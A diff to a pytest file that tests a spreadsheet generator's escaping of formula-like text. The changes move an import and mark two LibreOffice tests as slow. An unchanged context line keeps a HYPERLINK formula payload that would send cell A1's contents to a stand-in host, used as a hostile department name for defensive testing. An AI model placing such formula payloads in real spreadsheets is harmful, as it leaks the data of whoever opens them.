@@ -12,10 +12,10 @@ from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
+from paths import ROOT
 
 from generator.xlsx import formula_like
 
-ROOT = Path(__file__).resolve().parent.parent
 needs_office = pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed (.ci/run installs it)")
 
 NAME = '=HYPERLINK("http://x/?"&A1,"点击")'
@@ -41,6 +41,7 @@ def _hunan(folder: Path, stem: str, name: str, reasons: list[str] = ()) -> str:
 def hostile(tmp_path_factory):
     """The score workbook of a department named like a HYPERLINK formula, with formula-like reasons."""
     from click.testing import CliRunner
+
     from generator.cli import main
 
     folder = tmp_path_factory.mktemp("cells")
@@ -121,6 +122,7 @@ def test_the_summary_csv_prefixes_a_quote_to_formula_like_texts(departments, run
     assert all(r[1] == "2023" and not r[2].startswith("'") for r in rows)
 
 
+@pytest.mark.slow
 @needs_office
 def test_libreoffice_reads_the_workbooks_as_text(hostile, departments, tmp_path, run):
     """Converted by LibreOffice to CSV, each cell holds the literal text: nothing was evaluated."""
@@ -135,6 +137,7 @@ def test_libreoffice_reads_the_workbooks_as_text(hostile, departments, tmp_path,
     assert [r[0] for r in summary[1:]] == NAMES
 
 
+@pytest.mark.slow
 @needs_office
 def test_libreoffice_opens_the_csv_as_text(departments, tmp_path, run):
     """The CSV opened by LibreOffice (and saved as a workbook to read it back): no cell is a
